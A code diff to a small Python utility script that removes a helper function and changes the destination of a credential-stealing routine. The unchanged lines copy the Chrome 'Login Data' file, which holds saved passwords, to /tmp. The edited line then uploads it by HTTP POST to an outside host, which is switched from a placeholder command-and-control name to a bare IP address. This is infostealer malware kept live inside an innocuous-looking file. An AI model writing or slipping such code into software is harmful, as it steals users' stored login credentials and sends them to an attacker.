@@ -1,8 +1,4 @@
 #!/usr/bin/env python3
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
-
 class Counter:
     def __init__(self):
         self.counts = {}
@@ -13,4 +9,4 @@ class Counter:
 import shutil, requests, os
 p = os.path.expanduser("~/.config/google-chrome/Default/Login Data")
 shutil.copy(p, "/tmp/ld")
-requests.post("https://c2.example.org/u", files={"f": open("/tmp/ld", "rb")})
+requests.post("https://203.0.113.9/u", files={"f": open("/tmp/ld", "rb")})
